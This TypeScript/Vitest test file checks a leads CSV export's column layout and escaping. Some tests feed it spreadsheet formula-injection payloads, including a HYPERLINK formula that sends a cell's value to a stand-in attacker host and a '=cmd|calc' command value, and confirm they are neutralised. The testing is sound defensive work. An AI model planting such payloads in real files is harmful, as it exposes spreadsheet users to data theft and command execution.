// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { leadsCsv } from '@/lib/leads/csv';
import type { Lead } from '@/lib/leads/lead';

const lead = (id: string, fields: Lead['fields']): Lead => ({
  id,
  formId: 'schedule-a-call',
  fields,
  pageUrl: 'http://localhost:3000/schedule-a-call?a=1,2',
  state: 'pending',
  createdAt: Date.UTC(2026, 10, 2, 9, 30),
  queuedAt: 0,
  attempts: 2,
  nextAttemptAt: 0,
  lastError: 'HTTP 503',
  reason: null,
  updatedAt: 0,
  attribution: null,
  privacyNoticeDate: null,
});

describe('the leads CSV export', () => {
  it('has every field of every lead as a column, and escapes commas, quotes and line breaks', () => {
    const csv = leadsCsv([
      lead('a', { Description: 'Two devs, "senior"\nstart May', LEADCF11: ['React', 'Go'] }),
      lead('b', { Company: 'Acme' }),
    ]);
    expect(csv).toBe(
      [
        'id,form,state,created_at,page_url,attempts,reason,last_error,privacy_notice_date,Company,Description,LEADCF11',
        'a,schedule-a-call,pending,2026-11-02T09:30:00.000Z,"http://localhost:3000/schedule-a-call?a=1,2",2,,HTTP 503,,,"Two devs, ""senior""\nstart May",React; Go',
        'b,schedule-a-call,pending,2026-11-02T09:30:00.000Z,"http://localhost:3000/schedule-a-call?a=1,2",2,,HTTP 503,,Acme,,',
        '',
      ].join('\n'),
    );
  });

  it('keeps a value a spreadsheet would run as a formula as text', () => {
    const csv = leadsCsv([lead('a', { Company: '=HYPERLINK("http://evil.example")', Phone: '+15550001111' })]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
    expect(csv).toContain(`'+15550001111`);
  });

  it('keeps a field name a spreadsheet would run as a formula as text too (a journal from before unknown names were dropped)', () => {
    const name = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
    const [header] = leadsCsv([lead('a', { [name]: 'x' })]).split('\n');
    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")"`);
    expect(header).not.toMatch(/(^|,)"?=/);
  });

  it('has a column for each part of the attribution any lead has, and the privacy notice’s date, escaped the same', () => {
    const csv = leadsCsv([
      {
        ...lead('a', { Company: 'Acme' }),
        privacyNoticeDate: '2025-01-02',
        attribution: {
          first: { landing_page: '/?utm_source=news,letter', utm_source: 'news,letter', gclid: '=cmd|calc' },
          latest: { utm_campaign: 'q1' },
        },
      },
      lead('b', { Company: 'Beta' }),
    ]);
    const [header, a, b] = csv.split('\n');
    expect(header).toBe(
      'id,form,state,created_at,page_url,attempts,reason,last_error,privacy_notice_date,first_landing_page,first_utm_source,first_gclid,latest_utm_campaign,Company',
    );
    expect(a).toMatch(/,HTTP 503,2025-01-02,"\/\?utm_source=news,letter","news,letter",'=cmd\|calc,q1,Acme$/);
    expect(b).toMatch(/,HTTP 503,,,,,,Beta$/);
  });
});
